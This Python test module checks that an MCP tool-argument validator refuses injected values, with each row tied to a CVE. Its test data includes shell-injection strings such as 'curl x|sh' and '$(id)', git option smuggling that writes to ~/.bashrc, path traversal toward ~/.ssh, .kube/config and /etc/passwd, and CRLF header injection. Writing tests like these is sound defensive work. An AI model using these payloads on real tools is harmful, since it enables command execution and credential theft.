"""Rows 10 to 17: one argument that means more than it should."""

from __future__ import annotations

from typing import Final

from tests.acceptance.disk import FOLDER
from tests.acceptance.spellings import in_json, in_list, nested
from tests.acceptance.table import Row, Sees, Sent, guessed, passes, refused
from tests.envelopes import legacy, modern

FILE_KEY: Final = Row(
    10, "CVE-2025-53967: a file key that a shell reads", Sees.VALUES,
    [
        *refused("SMCP516", "figma.get", "fileKey", "abc$(id>/tmp/p)", "abc`id`", "abc;id", "abc\nid", "abc|id",
                 "a b", "a" * 65, "abc%24(id)", "abc\uff04(id)", "abc\n", "\u0430bc", "-abc", "../abc"),
        *refused("SMCP516 SMCP517", "figma.get", "fileKey", "", {"a": "abc"}),
        *refused("SMCP516", "figma.get", "fileKey", in_list("abc$(id)"), where="/params/arguments/fileKey/1"),
        *passes("figma.get", "fileKey", "abcDEF123", "a", "a" * 64, ["abc", "def"]),
        *guessed("SMCP610 SMCP611 SMCP516", "figma.other", "fileKey", "abc$(id>/tmp/p)"),
    ],
    {"tools": {"figma.get": {"arguments": {
        "fileKey": {"kind": "identifier", "alphabet": "A-Za-z0-9", "max_length": 64}}}}},
)  # fmt: skip

COMMANDS: Final = Row(
    11, "CVE-2025-5277, CVE-2026-5058, CVE-2025-53355: a command with a second one behind it", Sees.VALUES,
    [
        *refused("SMCP514", "aws.run", "command", "aws s3 ls; curl x|sh", "aws s3 ls;curl x", "aws s3 ls && id",
                 "aws s3 ls || id", "aws s3 ls | sh", "aws s3 ls & id", "aws s3 ls $(id)", "aws s3 ls `id`",
                 "aws s3 ls\nid", "aws s3 ls > /etc/cron.d/x", "aws s3 ls < /etc/passwd", 'aws s3 ls "$(id)"',
                 "/tmp/aws s3 ls", "A=1 aws s3 ls", "aws s3 ls ${IFS}id", "aws s3 ls 's3://b", "curl x", "",
                 "aws s3 ls --endpoint-url=http://evil.example", "aws s3 rm s3://b", "aws s3 ls s3://b\x00",
                 "aws s3 ls \uff1b id", "Aws s3 ls"),
        *refused("SMCP514", "aws.run", "command", in_list("aws s3 ls; id"), where="/params/arguments/command/1"),
        *passes("aws.run", "command", "aws s3 ls", "aws s3 ls s3://bucket/a.txt", "aws  s3 'ls' \"s3://b\""),
        *refused("SMCP517", "kubectl.get", "resource", "pod; id", "pod;id", "pods", "Pod", "pod "),
        *refused("SMCP517", "kubectl.get", "resource", ["pod", "pod|id"], where="/params/arguments/resource/1"),
        *passes("kubectl.get", "resource", "pod", ["pod", "service"]),
        *guessed("SMCP610 SMCP611 SMCP612 SMCP613 SMCP614 SMCP615 SMCP616 SMCP617 SMCP618 SMCP619",
                 "kubectl.other", "resource", "pod; id", "pod && cat /etc/passwd", "pod$(id)"),
    ],
    {"tools": {
        "aws.run": {"arguments": {"command": {"kind": "command", "programs": {"aws": ["s3", "ls", "s3://*"]}}}},
        "kubectl.get": {"arguments": {"resource": {"kind": "enum", "values": ["pod", "service"]}}},
    }},
)  # fmt: skip

OPTIONS: Final = Row(
    12, "CVE-2025-68143, -68144, -68145: a value that git reads as an option, and a path outside", Sees.VALUES,
    [
        *refused("SMCP515", "git.diff", "target", "--output=/home/u/.bashrc", "-o/home/u/.bashrc", "--no-index",
                 "--upload-pack=id", "-", "--", "main\n--output=x", "main\x00", "\u2010\u2010output=x"),
        *refused("SMCP515", "git.diff", "target", in_list("--output=x"), where="/params/arguments/target/1"),
        *passes("git.diff", "target", "main", "feature/long-name", "HEAD~1", "v1.2..v1.3", "--stat"),
        *refused("SMCP510", "git.init", "repo_path", "/home/u/.ssh", "/srv/repos/../../home/u/.ssh", "../x", "~/.ssh",
                 "/srv/repos/%2e%2e/%2e%2e/home", "/srv/repos2/x", "//host/share", "\\\\host\\share",
                 "/srv/repos/a\x00b"),
        *passes("git.init", "repo_path", "/srv/repos/new", "new", "a..b"),
        *guessed("SMCP515", "git_diff", "target", "--output=/home/u/.bashrc"),
    ],
    {"tools": {
        "git.diff": {"arguments": {"target": {"kind": "argv_token", "options": ["--stat"]}}},
        "git.init": {"arguments": {"repo_path": {"kind": "path", "roots": ["/srv/repos"]}}},
    }},
)  # fmt: skip

ADDED_FILES: Final = Row(
    13, "CVE-2026-27735: a path that climbs, inside of a list", Sees.VALUES,
    [
        *[
            one
            for path in ("../../../.kube/config", "a/../../.kube/config", "..%2f..%2f.kube/config", "..\\..\\.kube",
                         "%252e%252e/%252e%252e/x", "\uff0e\uff0e/\uff0e\uff0e/x", "..%c0%af..%c0%afx", "/etc/passwd",
                         "a/\x00/../b", "..;/..;/x")
            for one in refused("SMCP510", "git.add", "files", ["a.py", path], where="/params/arguments/files/1")
        ],
        *refused("SMCP510", "git.add", "files", in_json(["a.py", "../../../.kube/config"]), where=None),
        *refused("SMCP510 SMCP620 SMCP621 SMCP622", "git.add", "files", "../../../.kube/config", where=None),
        *refused("SMCP510", "git.stage", "change", nested({"file": "../../../.kube/config"}), where=None),
        *passes("git.add", "files", ["a.py", "src/b.py"], ["docs/v1..v2.md", "a...b"], "a.py"),
        *guessed("SMCP510 SMCP620 SMCP621 SMCP622", "git_add", "files", ["a.py", "../../../.kube/config"]),
    ],
    {"tools": {
        "git.add": {"arguments": {"/files/*": {"kind": "path", "roots": ["/srv/repo"]}}},
        "git.stage": {"arguments": {"/change/part/part/file": {"kind": "path", "roots": ["/srv/repo"]}}},
    }},
)  # fmt: skip

PREFIX: Final = Row(
    14, "CVE-2025-53110: a folder whose name begins like the root", Sees.VALUES,
    [
        *refused("SMCP510", "fs.read", "path", "/srv/data_secret/x", "/srv/data/../data_secret/x", "/srv/database",
                 "/srv/dat", "/srv", "/", "/SRV/DATA/x", "/srv/data%2f..%2fdata_secret", "/srv/data\\..\\..\\etc"),
        *passes("fs.read", "path", "/srv/data/x", "/srv/data", "/srv/data/_secret/x", "x"),
    ],
    {"tools": {"fs.read": {"arguments": {"path": {"kind": "path", "roots": ["/srv/data"]}}}}},
)  # fmt: skip

LINKS: Final = Row(
    15, "CVE-2025-53109: a link inside of the root that leads out of it", Sees.VALUES,
    [
        *refused("SMCP510", "disk.read", "path", f"{FOLDER}/root/out", f"{FOLDER}/root/out/passwd", "out/passwd",
                 f"{FOLDER}/root/far/secret.txt", "chain/secret.txt"),
        *passes("disk.read", "path", f"{FOLDER}/root/here/notes.txt", "notes.txt", "here/notes.txt"),
    ],
    {"tools": {"disk.read": {"arguments": {
        "path": {"kind": "path", "roots": [f"{FOLDER}/root"], "resolve": "local"}}}}},
)  # fmt: skip

SEGMENTS: Final = Row(
    16, "CVE-2026-32871: a path parameter of more than one segment", Sees.VALUES,
    [
        *refused("SMCP516", "users.get", "user_id", "../../admin/keys", "%2e%2e%2f%2e%2e%2fadmin", "..;/admin", "..",
                 ".", "a/b", "..%252fadmin", "..\\admin", "\uff0e\uff0e\uff0fadmin", "a%00", "a\x00", "%2e%2e"),
        *passes("users.get", "user_id", "user-42", "4711", 4711, "a.b"),
        Sent("a variable of a resource template", legacy("resources/read", {"uri": "users://%2e%2e"}),
             frozenset({"SMCP304", "SMCP516"})),
        Sent("a modern read of it", modern("resources/read", {"uri": "users://a%2fb"}),
             frozenset({"SMCP304", "SMCP516"})),
        Sent("a user that is no identifier", legacy("resources/read", {"uri": "users://a:b"}), frozenset({"SMCP516"})),
        Sent("a plain user", legacy("resources/read", {"uri": "users://user-42"})),
        Sent("a prompt's argument", legacy("prompts/get", {"name": "about", "arguments": {"user_id": "../x"}}),
             frozenset({"SMCP516"})),
        Sent("a prompt about a plain user", legacy("prompts/get", {"name": "about", "arguments": {"user_id": "u-1"}})),
        Sent("a completion", legacy("completion/complete", {"ref": {"type": "ref/prompt", "name": "about"},
             "argument": {"name": "user_id", "value": "../x"}}), frozenset({"SMCP516"})),
        Sent("the beginning of a plain user", legacy("completion/complete", {
             "ref": {"type": "ref/prompt", "name": "about"}, "argument": {"name": "user_id", "value": ""}})),
    ],
    {
        "tools": {"users.get": {"arguments": {"user_id": {"kind": "identifier"}}}},
        "resources": {"users://{user_id}": {"arguments": {"user_id": {"kind": "identifier"}}}},
        "prompts": {"about": {"arguments": {"user_id": {"kind": "identifier"}}}},
    },
)  # fmt: skip

INTO_HEADERS: Final = Row(
    17, "CVE-2026-29791: a value that adds a query or a header", Sees.VALUES,
    [
        *refused("SMCP516", "orders.get", "id", "1?admin=true", "a\r\nX-Role: root", "a\nX-Role: root", "1&x=1", "1#x",
                 "1;x", "1=1", "1%0d%0aX-Role:root", "1%3fadmin=true", "1\u2028X", "1\x85X", "1\uff1fadmin=true"),
        *passes("orders.get", "id", "1", "order-1", 1),
    ],
    {"tools": {"orders.get": {"arguments": {"id": {"kind": "identifier"}}}}},
)  # fmt: skip

ARGUMENT_ROWS: Final = (FILE_KEY, COMMANDS, OPTIONS, ADDED_FILES, PREFIX, LINKS, SEGMENTS, INTO_HEADERS)
